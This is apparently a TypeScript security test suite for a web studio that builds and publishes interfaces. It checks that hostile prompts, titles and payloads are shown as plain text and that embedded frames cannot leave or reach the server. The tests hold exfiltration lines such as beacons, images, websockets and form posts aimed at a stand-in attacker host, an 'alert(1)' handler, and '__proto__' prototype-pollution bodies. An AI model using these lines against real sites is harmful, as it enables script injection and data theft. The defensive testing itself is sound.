// Attacks on the whole studio: in prompts, titles, interfaces and data from outside; on its pages and in its answers.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Browser } from 'playwright-core';
import { forSoak } from '../../../../src/base/testing/soak.ts';
import type { JsonObject, Payload } from '../../../../src/interface-catalogue/model/payload.ts';
import { openBrowser } from '../../../browser/open-browser.ts';
import { type Tree, toPayload } from '../frame/open-preview.ts';
import { type Json, StudioServer } from '../studio-server.ts';
import { ATTACKER, ATTACKS, listTraces, watch } from './attacks.ts';

const TEXTS = Object.values(ATTACKS);
const ALL = TEXTS.join(' ');
const TITLE = ATTACKS['a script']?.slice(0, 200) ?? '';
const PROMPT = `An online shop for houseplants called "${TITLE}" with search, a cart and orders. ${ALL}`;

/** A valid interface of hostile texts. */
const LOUD: Payload = {
  ...toPayload(
    [
      'Column',
      {},
      ...TEXTS.map((text): Tree => ['RichText', { text }]),
      [
        'DataTable',
        { rows: { path: '/rows' }, columns: TEXTS.slice(0, 12).map((label) => ({ field: 'name', label })) },
      ],
      ['Select', { label: ALL, value: { path: '/chosen' }, options: TEXTS }],
    ],
    { rows: TEXTS.map((name) => ({ id: name, name })), chosen: ALL, [TITLE]: ALL },
  ),
  title: TITLE,
};

/** A valid description of hostile texts. */
const DESCRIBED = {
  title: TITLE.slice(0, 80),
  purpose: ALL.slice(0, 400),
  things: {
    text: {
      name: TITLE.slice(0, 60),
      plural: TITLE.slice(0, 60),
      fields: {
        name: { type: 'text', label: TITLE.slice(0, 60) },
        kind: { type: 'choice', options: TEXTS.slice(0, 8).map(toOption) },
      },
      rows: TEXTS.map((name, at) => ({ name, kind: toOption(TEXTS[at % 8] ?? '') })),
    },
  },
  actions: { go: { label: TITLE.slice(0, 60), on: 'text', says: '{name}', changes: { name: "name & '<b>'" } } },
  pages: [
    {
      name: TITLE.slice(0, 40),
      views: [
        { kind: 'hero', headline: TITLE, text: ALL },
        { kind: 'cards', of: 'text', title: TITLE },
      ],
    },
    {
      name: 'Texts',
      views: [
        { kind: 'text', text: ALL },
        { kind: 'board', of: 'text', by: 'kind' },
      ],
    },
  ],
};

function toOption(text: string): string {
  return text.slice(0, 80);
}

let server: StudioServer;
let browser: Browser;
let cookie: string;
/** The published interface of hostile texts. */
let given: string;
before(async () => {
  server = await StudioServer.open({ drawThumbnail: undefined, engine: undefined });
  browser = await openBrowser();
  ({ cookie } = await server.addAdmin());
  given = await publish('given', LOUD, 'turn-of-somebody');
});
after(async () => {
  await browser?.close();
  await server?.close();
  assert.equal(({} as { polluted?: unknown }).polluted, undefined);
});

async function publish(conversationId: string, payload: Payload, turnId: string): Promise<string> {
  const feedback = { conversationId, turnId, rating: 1, publish: true, payload, prompt: PROMPT, publishPrompt: true };
  const { status, body, text } = await server.post('/api/design-feedback', feedback, { cookie });
  assert.equal(status, 201, text.slice(0, 300));
  return body.galleryId;
}

describe('the pages of the studio', () => {
  it('show attacks in prompts, titles and texts as texts', async () => {
    const { payload, done } = await server.prompt('attacked', PROMPT, { cookie });
    assert.equal((await server.post('/api/conversations/attacked/versions/1/share', '', { cookie })).status, 200);
    const composed = await publish('attacked', payload, done.turnId);
    const events = await server.send({ kind: 'app', conversationId: 'attacked', app: DESCRIBED }, { cookie });
    const made = events.find(({ event }) => event === 'payload')?.data.payload;
    const described = await publish('attacked', made, events.at(-1)?.data.turnId);
    const report = { reason: 'other', details: ALL.slice(0, 1000) };
    assert.equal((await server.post(`/api/gallery/${given}/reports`, report)).status, 204);
    const context = await browser.newContext();
    const [name = '', value = ''] = cookie.split('=');
    await context.addCookies([{ name, value, url: server.url }]);
    const page = await context.newPage();
    const seen = await watch(page, server.url);
    for (const path of [
      // The page of the shared one shows the same interface.
      ...forSoak([`/gallery/${composed}`], []),
      `/gallery/${described}`,
      `/gallery/${given}`,
      `/gallery/${given}/report`,
      `/gallery?q=${encodeURIComponent(TITLE)}`,
      `/shared/${done.turnId}`,
      `/?remix=${given}`,
      '/designs',
      '/admin',
      '/?c=attacked',
    ]) {
      await page.goto(server.url + path);
      await page.waitForLoadState('networkidle');
      for (const frame of page.frames()) assert.deepEqual(await listTraces(frame), [], path);
    }
    // The views of code are the same panel with other files.
    for (const view of forSoak(['App', 'Tree', 'Data', 'A2UI', 'React', 'HTML'], ['App', 'Tree', 'Data', 'React'])) {
      await page.getByRole('button', { name: view, exact: true }).click();
      await page.locator('.panel-body').getByRole('button').first().waitFor();
      assert.deepEqual(await listTraces(page), [], view);
    }
    assert.deepEqual(seen, []);
    for (const id of [composed, described, given])
      assert.equal((await server.get(`/gallery/${id}/thumbnail.png`)).status, 200);
    await context.close();
  });

  it('keep a frame from leaving, from leading them away and from opening windows, also if a script ran in it', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const seen = await watch(page, server.url);
    const address = `${server.url}/gallery/${given}`;
    // The first ones leave the frame as it was, so that one of it is enough for them.
    const kept = [
      `top.location.href = '${ATTACKER}/top'`,
      `window.open('${ATTACKER}/window')`,
      `new Image().src = '${ATTACKER}/image'`,
      `navigator.sendBeacon('${ATTACKER}/beacon')`,
      `new WebSocket('wss://attacker.example/')`,
    ];
    for (const scripts of [
      kept,
      [`location.href = '${ATTACKER}/self'`],
      [`document.body.innerHTML = '<form action="${ATTACKER}/form"></form>'; document.forms[0].submit()`],
      [`document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${ATTACKER}/refresh">'`],
    ]) {
      await page.goto(address);
      const frame = page.frames()[1] ?? assert.fail('the page has a frame');
      for (const script of scripts) {
        await frame.locator('[data-node]').first().waitFor();
        await frame.evaluate(`{ ${script} }`).catch(() => {});
        await page.waitForTimeout(100);
        assert.deepEqual([page.url(), seen], [address, []], script);
      }
    }
    await context.close();
  });

  it('give an interface that is opened alone no origin, no network and no way to the server', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const seen = await watch(page, server.url);
    await page.goto(`${server.url}/gallery/${given}/live`);
    await page.locator('[data-node]').first().waitFor();
    const reached = await page.evaluate(async () => {
      // biome-ignore lint/suspicious/noExplicitAny: it runs in the browser, whose globals this project does not know
      const scope = globalThis as any;
      const attempts: Record<string, () => unknown> = {
        fetch: () => scope.fetch('/api/gallery'),
        cookie: () => scope.document.cookie,
        storage: () => scope.localStorage,
      };
      const found: string[] = [];
      for (const [name, attempt] of Object.entries(attempts)) {
        const run = async () => attempt();
        await run().then(
          () => found.push(name),
          () => {},
        );
      }
      return found;
    });
    assert.equal(await page.evaluate('origin'), 'null');
    assert.deepEqual(reached, []);
    assert.deepEqual([seen, await listTraces(page)], [[], []]);
    await context.close();
  });
});

describe('an interface from outside', () => {
  const node = (component: string, props: unknown): unknown =>
    toPayload(['Column', {}, [component, props as JsonObject]]);
  const text = (props: object): unknown => node('Text', { text: 'x', ...props });
  const press = (step: object): unknown => node('Button', { label: 'x', press: { steps: [step] } });
  const good = toPayload(['Text', { text: 'x' }]);
  const BAD: Readonly<Record<string, unknown>> = {
    'an unknown component': node('Script', {}),
    'a handler': text({ onClick: 'alert(1)' }),
    markup: text({ dangerouslySetInnerHTML: { __html: ALL } }),
    'an address as a picture': node('Image', { subject: 'x', source: ATTACKS['an address'] }),
    'a script as a picture': node('Image', { subject: 'x', source: ATTACKS['a picture with a script'] }),
    'an unknown icon': node('Icon', { name: TITLE }),
    'a style as a colour': text({ color: ATTACKS['a style'] }),
    'a style as a theme': { ...good, theme: { ...good.theme, accent: ATTACKS['a style'] } },
    'an unknown function': text({ text: { call: 'constructor', args: {} } }),
    'an unknown argument': text({ text: { call: 'count', args: { rows: [], constructor: 1 } } }),
    'an unknown step': press({ do: 'fetch', url: ATTACKS['an address'] }),
    'a path to a prototype': press({ do: 'set', path: '/__proto__/polluted', value: 1 }),
    'a prop named __proto__': JSON.parse(JSON.stringify(text({ x: 1 })).replace('"x":1', '"__proto__":{"polluted":1}')),
    'data named __proto__': { ...good, dataModel: JSON.parse('{"rows":[{"__proto__":{"polluted":1}}]}') },
    'data named constructor': { ...good, dataModel: { constructor: { prototype: { polluted: 1 } } } },
    'an id that is none': { ...good, nodes: good.nodes.map((each) => ({ ...each, id: TITLE })) },
  };
  const WAYS: Readonly<Record<string, (payload: unknown) => Promise<[number, string]>>> = {
    'a prompt': async (payload) => {
      const conversationContext = { latestPayload: payload };
      return post('/api/agent', { kind: 'prompt', conversationId: 'bad', prompt: 'x', conversationContext });
    },
    feedback: (payload) =>
      post('/api/design-feedback', { conversationId: 'bad', turnId: 'x', rating: 1, publish: true, payload }),
    'an export': (payload) => post('/studio/export?format=html', { payload }),
    'the files': (payload) => post('/studio/files?format=react', { payload }),
    'a tool that changes it': (payload) => callTool('refine_interface', { prompt: 'x', payload }),
    'a tool that exports it': (payload) => callTool('export_interface', { format: 'html', payload }),
  };

  async function post(path: string, body: unknown): Promise<[number, string]> {
    const { status, body: answer } = await server.post(path, body, { origin: server.url });
    return [status, answer?.error.code];
  }

  async function callTool(name: string, input: object): Promise<[number, string]> {
    const message = { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: input } };
    const { text: answer } = await server.post('/mcp', message, { accept: 'application/json, text/event-stream' });
    const { result }: Json = JSON.parse(/^data: (.*)$/m.exec(answer)?.[1] ?? answer);
    return [result.isError ? 400 : 200, JSON.parse(result.content[0].text).error?.code];
  }

  for (const [way, send] of Object.entries(WAYS)) {
    it(`is checked like our own when it comes with ${way}`, async () => {
      for (const [name, payload] of Object.entries(BAD))
        assert.deepEqual(await send(payload), [400, 'invalid_interface'], name);
    });
  }

  it('pollutes nothing, wherever in a body the name of a prototype stands', async () => {
    for (const body of [
      '{"__proto__":{"polluted":1},"kind":"prompt","conversationId":"p","prompt":"x"}',
      '{"kind":"prompt","conversationId":"p","prompt":"x","conversationContext":{"__proto__":{"polluted":1}}}',
      '{"kind":"prompt","conversationId":"p","prompt":"x","constructor":{"prototype":{"polluted":1}}}',
    ]) {
      const { status } = await server.post('/api/agent', body);
      assert.equal(status, 400, body);
    }
    assert.equal(({} as { polluted?: unknown }).polluted, undefined);
  });
});
